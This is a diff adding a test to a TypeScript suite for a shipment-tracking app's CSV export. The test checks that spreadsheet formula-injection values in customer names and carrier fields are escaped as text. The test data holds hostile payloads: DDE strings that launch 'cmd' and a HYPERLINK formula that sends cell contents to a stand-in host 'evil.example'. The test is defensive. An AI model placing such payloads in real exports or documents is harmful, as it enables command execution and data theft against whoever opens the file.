@@ -19,9 +19,10 @@ import { mailboxes, trackings } from '../db/schema';
 import { testConfig, type Config } from '../env';
 import { exportTrackingBatches, listTrackings } from '../queries/trackings';
 import { createServer } from '../server';
+import { csvRows, isSpreadsheetNumber, opensAsFormula } from '../test/csv';
 import { createTestDatabase } from '../test/db';
 import { signedInAdmin, signedInCustomer } from '../test/factories';
-import { registerExportRoutes } from './exports';
+import { TRACKINGS_CSV_HEADERS, registerExportRoutes } from './exports';
 
 const HEADER =
   '"Tracking","Cliente","Casillero","Estado","Transportista","Peso estimado (kg)","Valor estimado (USD)","Prioridad","Fecha"';
@@ -253,5 +254,48 @@ describe('export in batches', () => {
   it('still refuses anonymous and customer requests', async () => {
     expect((await download(small, null)).statusCode).toBe(401);
     expect((await download(small, customer)).statusCode).toBe(403);
+  });
+});
+
+describe('formula injection', () => {
+  it("writes a customer's formula-like name and carrier as text, and the weights and values as numbers that sum", async () => {
+    const payload = `-1+cmd|' /C calc'!A0`;
+    const mallory = await customerWithMailbox(payload);
+    await db()
+      .insert(trackings)
+      .values([
+        { ...tracking(901, mallory), trackingNumber: 'INJ0901', status: 'created' as const, carrier: `@SUM(1+9)*cmd|' /C calc'!A0`, estimatedWeight: 2.5, estimatedValue: 1234.5 },
+        { ...tracking(902, mallory), trackingNumber: 'INJ0902', carrier: `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`, estimatedWeight: 0.75, estimatedValue: 0 },
+      ]);
+
+    const res = await download(server.app, admin, { q: mallory.email });
+    expect(res.statusCode).toBe(200);
+    const [header, ...rows] = csvRows(res.body);
+    expect(header).toEqual(TRACKINGS_CSV_HEADERS);
+    expect(rows.map((r) => r[0]).sort()).toEqual(['INJ0901', 'INJ0902']);
+    const first = rows.find((r) => r[0] === 'INJ0901')!;
+    expect(first.slice(1, 7)).toEqual([
+      `'${payload} <${mallory.email}>`,
+      mallory.mailbox.mailboxCode,
+      'Creado',
+      `'@SUM(1+9)*cmd|' /C calc'!A0`,
+      '2.50',
+      '1234.50',
+    ]);
+    expect(rows.find((r) => r[0] === 'INJ0902')![4]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"Ver")`);
+
+    // The whole file, every customer: no cell opens as a formula; weights and values are numbers
+    // whose sums are the database's.
+    const all = csvRows((await download(server.app, admin)).body).slice(1);
+    expect(all.flat().filter(opensAsFormula)).toEqual([]);
+    const weights = all.map((r) => r[TRACKINGS_CSV_HEADERS.indexOf('Peso estimado (kg)')]);
+    const values = all.map((r) => r[TRACKINGS_CSV_HEADERS.indexOf('Valor estimado (USD)')]);
+    expect([...weights, ...values].every(isSpreadsheetNumber)).toBe(true);
+    const [sums] = await db()
+      .select({ weight: sql<string>`sum(${trackings.estimatedWeight})::text`, value: sql<string>`sum(${trackings.estimatedValue})::text` })
+      .from(trackings);
+    const total = (cells: string[]) => cells.reduce((sum, cell) => sum + Math.round(Number(cell) * 100), 0) / 100;
+    expect(total(weights)).toBe(Number(sums.weight));
+    expect(total(values)).toBe(Number(sums.value));
   });
 });
